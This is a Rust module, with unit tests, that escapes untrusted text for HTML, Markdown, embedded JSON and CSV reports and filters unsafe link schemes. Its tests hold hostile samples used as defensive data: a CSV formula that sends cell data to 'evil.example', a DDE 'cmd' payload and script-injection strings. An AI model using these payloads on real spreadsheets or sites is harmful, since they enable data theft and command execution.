//! Escaping text for the HTML and Markdown reports, and deciding which URLs become links.
//!
//! Everything in a session is untrusted text (claims are quoted from the web), so every
//! piece goes through one of these before it reaches a report.

/// Escapes text for HTML element content and double- or single-quoted attributes.
pub fn html(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            _ => out.push(c),
        }
    }
    out
}

/// Escapes text for inline Markdown: HTML is neutralised with entities and Markdown
/// punctuation is backslash-escaped, so the text renders exactly as written. Line
/// breaks become spaces (use [`markdown_lines`] to keep them).
pub fn markdown(text: &str) -> String {
    let flat: String = text
        .chars()
        .map(|c| if c == '\n' || c == '\r' { ' ' } else { c })
        .collect();
    markdown_line(&flat)
}

/// Like [`markdown`] but keeps line breaks as Markdown hard breaks, each line escaped.
pub fn markdown_lines(text: &str) -> Vec<String> {
    text.lines().map(markdown_line).collect()
}

fn markdown_line(line: &str) -> String {
    let mut out = String::with_capacity(line.len() + 8);
    let mut at_line_start = true;
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            // Inline specials: emphasis, code, links, tables, strikethrough, escapes.
            '\\' | '`' | '*' | '_' | '[' | ']' | '|' | '~' | '!' => {
                out.push('\\');
                out.push(c);
            }
            // Block markers only matter where a line starts.
            '#' | '+' | '-' | '=' if at_line_start => {
                out.push('\\');
                out.push(c);
            }
            d if d.is_ascii_digit() && at_line_start => {
                // "1. " or "1) " at a line start would become a list item.
                out.push(d);
                while let Some(&next) = chars.peek() {
                    if next.is_ascii_digit() {
                        out.push(next);
                        chars.next();
                    } else {
                        break;
                    }
                }
                if let Some(&next @ ('.' | ')')) = chars.peek() {
                    out.push('\\');
                    out.push(next);
                    chars.next();
                }
            }
            _ => out.push(c),
        }
        at_line_start = at_line_start && c == ' ';
    }
    out
}

/// Makes JSON text safe to embed in an HTML `<script type="application/ld+json">`
/// element, as publishers embed ClaimReview: `<`, `>` and `&` become `\u003c`,
/// `\u003e` and `\u0026`. A JSON parser reads the same strings back, but the HTML
/// parser never sees `</script>` (which would end the element and run whatever
/// follows) or `<!--`.
///
/// Outside strings JSON never uses these characters, so replacing them everywhere
/// in the serialised text only touches string contents.
pub fn json_for_html(json: &str) -> String {
    let mut out = String::with_capacity(json.len());
    for c in json.chars() {
        match c {
            '<' => out.push_str("\\u003c"),
            '>' => out.push_str("\\u003e"),
            '&' => out.push_str("\\u0026"),
            _ => out.push(c),
        }
    }
    out
}

/// The characters a spreadsheet reads as the start of a formula (OWASP's list:
/// `=`, `+`, `-`, `@`, tab, carriage return).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Neutralises a CSV cell that a spreadsheet would run as a formula
/// (`=HYPERLINK(...)`, `+cmd|...`): a leading `'` makes it text, as OWASP's
/// "CSV Injection" guidance recommends. Other cells are unchanged.
pub fn csv_cell(text: &str) -> std::borrow::Cow<'_, str> {
    if text.starts_with(FORMULA_STARTS) {
        std::borrow::Cow::Owned(format!("'{text}"))
    } else {
        std::borrow::Cow::Borrowed(text)
    }
}

/// The URL if it is safe to make a link of (http, https or mailto), else `None`; other
/// schemes such as `javascript:` are shown as plain text only.
pub fn linkable_url(url: &str) -> Option<&str> {
    let u = url.trim();
    let lower = u.to_ascii_lowercase();
    let ok = ["http://", "https://", "mailto:"]
        .iter()
        .any(|p| lower.starts_with(p));
    (ok && !u.chars().any(|c| c.is_whitespace() || c.is_control())).then_some(u)
}

/// Percent-encodes the few characters that would end a Markdown link destination.
pub fn markdown_url(url: &str) -> String {
    let mut out = String::with_capacity(url.len());
    for c in url.chars() {
        match c {
            '(' => out.push_str("%28"),
            ')' => out.push_str("%29"),
            '<' => out.push_str("%3C"),
            '>' => out.push_str("%3E"),
            ' ' => out.push_str("%20"),
            '\\' => out.push_str("%5C"),
            _ => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn html_escapes_markup_and_quotes() {
        assert_eq!(
            html(r#"<script>alert("x&'y")</script>"#),
            "&lt;script&gt;alert(&quot;x&amp;&#39;y&quot;)&lt;/script&gt;"
        );
    }

    #[test]
    fn markdown_escapes_html_and_specials() {
        assert_eq!(
            markdown("<script>*bold* [a](b) `c` | _d_ ~e~ \\ !"),
            "&lt;script&gt;\\*bold\\* \\[a\\](b) \\`c\\` \\| \\_d\\_ \\~e\\~ \\\\ \\!"
        );
        assert_eq!(markdown("# not a heading"), "\\# not a heading");
        assert_eq!(markdown("- not a list"), "\\- not a list");
        assert_eq!(markdown("12. not a list"), "12\\. not a list");
        assert_eq!(markdown("a - b #3 is 1. ok"), "a - b #3 is 1. ok");
        assert_eq!(markdown("two\nlines"), "two lines");
        assert_eq!(markdown_lines("a\n# b"), ["a", "\\# b"]);
    }

    #[test]
    fn only_web_and_mail_urls_are_links() {
        assert_eq!(
            linkable_url(" https://a.example/x "),
            Some("https://a.example/x")
        );
        assert_eq!(linkable_url("javascript:alert(1)"), None);
        assert_eq!(linkable_url("https://a.example/x y"), None);
        assert_eq!(linkable_url("data:text/html,<b>"), None);
        assert_eq!(markdown_url("https://a/(b) c"), "https://a/%28b%29%20c");
    }

    #[test]
    fn json_for_html_hides_markup_from_the_html_parser() {
        let payload = "</script><script>document.title='x'</script> <!-- & -->";
        let json = serde_json::to_string(&payload).unwrap();
        let safe = json_for_html(&json);
        assert!(!safe.contains(['<', '>', '&']), "{safe}");
        assert!(safe.contains("\\u003c/script\\u003e"), "{safe}");
        let back: String = serde_json::from_str(&safe).unwrap();
        assert_eq!(back, payload);
    }

    #[test]
    fn csv_cells_that_start_a_formula_become_text() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
            "+cmd|'/C calc'!A0",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(csv_cell(formula), format!("'{formula}"));
        }
        for plain in ["Mostly true", "", " =not at the start", "3 - 2", "'quoted"] {
            assert_eq!(csv_cell(plain), plain);
        }
    }
}
